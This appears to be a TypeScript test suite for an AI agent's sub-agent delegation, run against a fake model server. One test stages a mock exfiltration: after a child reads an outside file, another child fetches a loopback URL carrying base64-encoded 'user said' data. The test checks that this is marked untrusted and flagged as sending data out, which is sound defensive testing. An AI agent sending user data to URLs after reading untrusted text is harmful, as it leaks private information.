// Children through the agent's own door: a real home, a real store, a model server on loopback.
import assert from "node:assert/strict";
import { readFile, writeFile } from "node:fs/promises";
import { join } from "node:path";
import { after, before, beforeEach, describe, type TestContext, test } from "node:test";
import { play } from "../../../test/support/agent/agent-rig.ts";
import { commandRig } from "../../../test/support/command-rig.ts";
import type { RecordedRequest } from "../../../test/support/model-server/script.ts";
import { ModelServer } from "../../../test/support/model-server/server.ts";
import { talk } from "../../../test/support/talk.ts";
import { modelConfig } from "../../../test/support/temp-home.ts";
import type { AgentEvent } from "../events.ts";

const goalOf = (request: RecordedRequest): string =>
  String(request.body.messages.find((message: { role: string }) => message.role === "user").content);
const newest = (request: RecordedRequest) => request.body.messages.at(-1);
const subagents = (events: readonly AgentEvent[]) => events.filter((event) => event.type === "subagent");

describe("spawning children", () => {
  let server: ModelServer;
  before(async () => {
    server = await ModelServer.start();
  });
  beforeEach(() => void server.clear());
  after(() => server.close());

  const open = (t: TestContext, more = "") => commandRig(t, { "config.yaml": modelConfig(server) + more });
  function delegates(calls: readonly object[], child: (request: RecordedRequest) => Promise<string> | string): void {
    server.otherwise(async (request) => {
      if (goalOf(request) !== "start it") return { text: await child(request) };
      if (newest(request).role === "tool") return { text: "over" };
      return { toolCalls: calls.map((args) => ({ name: "delegate_task", arguments: args as never })) };
    });
  }
  const resultsOf = (messages: readonly { readonly role: string; readonly content: unknown }[]) =>
    messages.filter((message) => message.role === "tool").map((message) => JSON.parse(String(message.content)));

  test("several calls of one answer run side by side; the whole way of each child is told", async (t) => {
    const rig = await open(t);
    const second = Promise.withResolvers<void>();
    delegates([{ goal: "one" }, { goal: "two" }], async (request) => {
      if (goalOf(request) === "two") second.resolve();
      else await second.promise;
      return goalOf(request);
    });
    const { events, outcome } = await play(rig.ctx.conversation.agent, "start it");
    assert.deepEqual(
      resultsOf(outcome.messages).map(({ results }) => results[0].summary),
      ["one", "two"],
    );
    const told = subagents(events).filter((event) => event.goal === "one");
    assert.deepEqual(
      told.map((event) => event.phase),
      ["spawn_requested", "start", "complete"],
    );
    assert.match(told[0]?.id ?? "", /^sa-0-[0-9a-f]{8}$/);
    assert.deepEqual([told[0]?.depth, told[0]?.parentId, told[0]?.model], [1, null, "fake-model"]);
    assert.equal(rig.ctx.conversation.agent.activeChildren, 0);
  });

  test("a child that read a stranger's text hands that on to its parent, whose own it is asked about", async (t) => {
    const rig = await open(t, "toolsets: [file, web, delegation]\n");
    const { osHome } = rig.ctx.home;
    const stranger = join(osHome, "stranger.md");
    await writeFile(stranger, "a text of somebody else, which is longer than thirty-two characters");
    const address = `http://127.0.0.1:9/?d=${"c2VjcmV0OiB3aGF0IHRoZSB1c2VyIHNhaWQ".repeat(2)}`;
    const sent: string[] = [];
    server.otherwise(async (request) => {
      const { role, content } = newest(request);
      if (role === "tool") sent.push(String(content));
      if (role === "tool") return { text: "over" };
      const goal = request.body.messages.findLast((message: { role: string }) => message.role === "user").content;
      const call = (name: string, args: object) => ({ toolCalls: [{ name, arguments: args as never }] });
      if (goal === "read it") return call("read_file", { path: stranger });
      if (goal === "open it") return call("web_extract", { urls: [address] });
      return call("delegate_task", { goal: goal === "start it" ? "read it" : "open it" });
    });
    const { agent } = rig.ctx.conversation;
    await play(agent, "start it", { interactive: false });
    assert.match(agent.foreignText.words ?? "", /^sub-agent: file .*stranger\.md$/);
    assert.match(sent.at(-1) ?? "", /^<untrusted_tool_result source="delegate_task" /);
    await play(agent, "and now the other", { interactive: false });
    assert.match(sent.at(-2) ?? "", /after text from outside: sends data out.*stranger\.md/);
  });

  test("one child can be stopped while the others go on; a pause keeps new ones from starting", async (t) => {
    const rig = await open(t);
    const { agent, subagents: table } = rig.ctx.conversation;
    const stuck = Promise.withResolvers<void>();
    delegates([{ tasks: [{ goal: "stuck" }, { goal: "quick" }] }], async (request) => {
      if (goalOf(request) === "quick") return "done";
      await stuck.promise;
      return "late";
    });
    const { outcome } = await play(agent, "start it", {
      onEvent: (event) => {
        if (event.type !== "subagent" || event.phase !== "complete" || event.goal !== "quick") return;
        assert.equal(agent.activeChildren, 1);
        const [running] = table.listActiveSubagents().filter((child) => child.goal === "stuck");
        assert.equal(running && table.interruptSubagent(running.id), true);
      },
    });
    stuck.resolve();
    const [{ results }] = resultsOf(outcome.messages);
    assert.deepEqual(
      results.map((one: { status: string }) => one.status),
      ["interrupted", "completed"],
    );
    table.setSpawnPaused(true);
    server.requests.length = 0;
    const again = await play(agent, "start it");
    assert.match(String(again.outcome.messages.findLast((one) => one.role === "tool")?.content), /paused/);
    assert.ok(server.requests.every((request) => goalOf(request) === "start it"));
  });

  test("a report that would fill the window goes to a file", async (t) => {
    const rig = await open(t);
    const long = "a line of the report\n".repeat(1000);
    delegates([{ goal: "write much" }], () => long);
    const { outcome } = await play(rig.ctx.conversation.agent, "start it");
    const [{ results }] = resultsOf(outcome.messages);
    assert.match(results[0].summary, /^<persisted-output>/);
    assert.ok(results[0].summary.length < 4000);
    const path = /(\/\S+_child0\.txt)/.exec(results[0].summary)?.[1] ?? "";
    assert.equal((await readFile(path, "utf8")).trim(), long.trim());
  });

  test("more calls than may run at once are left out, and the user is told", async (t) => {
    const rig = await open(t, "delegation:\n  max_concurrent_children: 1\n");
    delegates([{ goal: "one" }, { goal: "two" }], goalOf);
    const { events, outcome } = await play(rig.ctx.conversation.agent, "start it");
    assert.equal(resultsOf(outcome.messages).length, 1);
    assert.ok(events.some((event) => event.type === "status" && /1 delegate_task call.*at most 1/.test(event.message)));
  });
});

test("a child stands where its parent stands, not where the conversation began or begins by the settings", async (t) => {
  const chat = await talk(t, {
    config: "terminal:\n  cwd: ~/project/first\n",
    project: { "first/a.txt": "", "second/b.txt": "" },
  });
  const command = (text: string) => ({ toolCalls: [{ name: "terminal", arguments: { command: text } }] });
  chat.server.otherwise((request) => {
    const results = request.body.messages.filter((message: { role: string }) => message.role === "tool");
    if (goalOf(request) === "look")
      return results.length === 0 ? command("pwd; ls") : { text: newest(request).content };
    if (results.length === 0) return command("cd ../second");
    if (results.length === 1) return { toolCalls: [{ name: "delegate_task", arguments: { goal: "look" } }] };
    return { text: newest(request).content };
  });
  const done = (await chat.say("start it")).at(-1);
  assert.ok(done?.type === "done");
  const [{ summary }] = JSON.parse(done.outcome.finalText ?? "").results;
  assert.equal(JSON.parse(summary).output, `${chat.project}/second\nb.txt`);
});
